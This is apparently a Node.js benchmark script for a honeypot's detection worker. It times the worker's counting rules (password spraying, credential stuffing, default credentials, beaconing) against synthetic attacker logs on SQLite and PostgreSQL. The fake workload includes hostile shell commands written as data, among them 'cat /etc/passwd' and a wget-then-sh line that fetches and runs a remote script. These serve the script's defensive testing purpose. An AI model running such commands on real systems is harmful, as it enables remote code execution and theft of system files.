#!/usr/bin/env node
/**
 * What the counting rules (password spraying, credential stuffing, default
 * credentials, a login after a brute force, beaconing) cost the ttp worker:
 * the same events drained with the brute-force rule only (the worker before
 * them: the baseline) and with every counting rule, interleaved rep by rep
 * in one process, on SQLite and PostgreSQL. Prints a markdown table.
 *
 *   npm run build && node --import tsx bench/ttp-counting.js [--count 100000] [--reps 3] [--dialects sqlite,postgres]
 *
 * Workload: `count` lines, in time order, from 2,000 attacker IPs: 40%
 * credential lines in DECNET's universal shape (guessing one account,
 * spraying one password, reused pairs across deckies, vendor defaults, some
 * IMAP successes), 40% HTTP requests (a fifth of the IPs at a steady
 * cadence), 20% shell commands. PostgreSQL: DECNET_TEST_PG_URL when set.
 */
import {performance} from 'node:perf_hooks'
import {parseArgs} from 'node:util'

import {migrateToLatest, openDatabase} from '../dist/db/index.js'
import {loadAuthRules} from '../dist/ttp/auth/auth-rules.js'
import {Matcher} from '../dist/ttp/matcher.js'
import {loadRules, loadTechniqueIndex} from '../dist/ttp/rule-loader.js'
import {AuthState} from '../dist/workers/ttp/auth-state.js'
import {FailureMemory} from '../dist/workers/ttp/failure-memory.js'
import {TagWriter} from '../dist/workers/ttp/tag-writer.js'
import {TTP_CURSOR, ttpDrain} from '../dist/workers/ttp/tick.js'
import {freshDatabase, skipReason} from '../test/helpers/databases.js'
import {describeMachine, loadAverage, machineHeader} from './lib/machine.js'
import {markdownTable} from './lib/markdown-table.js'
import {median} from './lib/stats.js'

const BATCH = 5000
const {values} = parseArgs({options: {count: {default: '100000', type: 'string'}, dialects: {default: 'sqlite,postgres', type: 'string'}, reps: {default: '3', type: 'string'}}})
const count = Number(values.count)
const reps = Number(values.reps)
if (!Number.isInteger(count) || count < 1 || !Number.isInteger(reps) || reps < 1) throw new Error('Expected --count and --reps to be positive integers')

const techniques = await loadTechniqueIndex()
const matcher = new Matcher((await loadRules({techniques})).rules, {attackVersion: techniques.version})
const {auth} = await loadAuthRules(techniques)

const START = Date.UTC(2026, 10, 26)
const PRINCIPALS = ['root', 'admin', 'oracle', 'test', 'user', 'guest', 'ubuntu', 'pi', 'postgres', 'git']
const COMMANDS = ['uname -a', 'cat /etc/passwd', 'wget http://203.0.113.9/x.sh; sh x.sh', 'ls -la /tmp', 'crontab -l', 'id']

/** The workload's rows, in time order (a line every 50 ms overall). */
function workload() {
  const rows = []
  for (let n = 0; n < count; n++) {
    const ip = `10.${(n % 2000) >> 8}.${n % 256}.${(n * 7) % 200}`.replace(/\.(\d+)$/, (_, x) => `.${Number(x) + 1}`)
    const ms = START + n * 50
    const timestamp = new Date(ms).toISOString()
    const kind = n % 5
    const base = {attacker_ip: ip, decky: `decky-0${n % 4}`, msg: null, raw_line: `<13>1 ${timestamp} decky - x - -`, timestamp}
    if (kind < 2) {
      const principal = n % 3 === 0 ? PRINCIPALS[n % PRINCIPALS.length] : 'root'
      const secret = n % 7 === 0 ? 'raspberry' : n % 3 === 0 ? 'Summer2026!' : `pw${n % 500}`
      const success = n % 97 === 0
      const fields = {outcome: success ? 'success' : 'failure', principal, secret_b64: Buffer.from(secret).toString('base64'), src_ip: ip, username: principal}
      rows.push({...base, event_type: success ? 'auth' : 'auth_attempt', fields: JSON.stringify(fields), service: n % 2 === 0 ? 'ssh' : 'imap'})
    } else if (kind < 4) {
      rows.push({...base, event_type: 'request', fields: JSON.stringify({method: 'GET', path: `/p${n % 50}`, src_ip: ip}), service: 'http'})
    } else {
      rows.push({...base, event_type: 'command', fields: JSON.stringify({command: COMMANDS[n % COMMANDS.length], src_ip: ip}), service: 'ssh'})
    }
  }

  return rows
}

async function reset(db) {
  for (const table of ['ttp_tags', 'auth_failures', 'credential_pairs', 'credential_stuffers', 'ttp_beacons']) await db.deleteFrom(table).execute()
  await db.updateTable('worker_state').set({cursor: 0}).where('worker', '=', TTP_CURSOR).execute()
}

async function timedDrain(db, counting) {
  await reset(db)
  const options = counting
    ? {auth, authState: new AuthState(), batchSize: BATCH, matcher, memory: new FailureMemory(auth.lookbackMs), writer: new TagWriter()}
    : {batchSize: BATCH, matcher, memory: new FailureMemory(), writer: new TagWriter()}
  const start = performance.now()
  const {tags} = await ttpDrain(db, options)
  return {ms: performance.now() - start, tags}
}

const rows = workload()
const table = []
for (const kind of values.dialects.split(',')) {
  if (skipReason(kind) !== undefined) {
    process.stderr.write(`${kind}: skipped (${skipReason(kind)})\n`)
    continue
  }

  const database = await freshDatabase(kind)
  const db = await openDatabase(database.url)
  try {
    await migrateToLatest(db)
    for (let i = 0; i < rows.length; i += 2000) await db.insertInto('logs').values(rows.slice(i, i + 2000)).execute()
    const runs = {counting: [], only: []}
    let tags = {counting: 0, only: 0}
    for (let rep = 0; rep < reps; rep++) {
      for (const which of rep % 2 === 0 ? ['only', 'counting'] : ['counting', 'only']) {
        const run = await timedDrain(db, which === 'counting')
        runs[which].push(run.ms)
        tags[which] = run.tags
      }
    }

    const perSecond = (ms) => Math.round(count / (ms / 1000)).toLocaleString('en-US')
    table.push([kind, 'brute force only (baseline)', tags.only.toLocaleString('en-US'), perSecond(median(runs.only)), '1.00'])
    table.push([kind, 'every counting rule', tags.counting.toLocaleString('en-US'), perSecond(median(runs.counting)), (median(runs.only) / median(runs.counting)).toFixed(2)])
  } finally {
    await db.destroy()
    await database.cleanup()
  }
}

console.log(machineHeader(describeMachine()).join('\n'))
console.log(`\n${count.toLocaleString('en-US')} events, batches of ${BATCH}, median of ${reps} interleaved runs; load average ${loadAverage()}\n`)
console.log(markdownTable(['database', 'rules', 'tags', 'events/s', 'speed vs baseline'], table, ['left', 'left', 'right', 'right', 'right']))
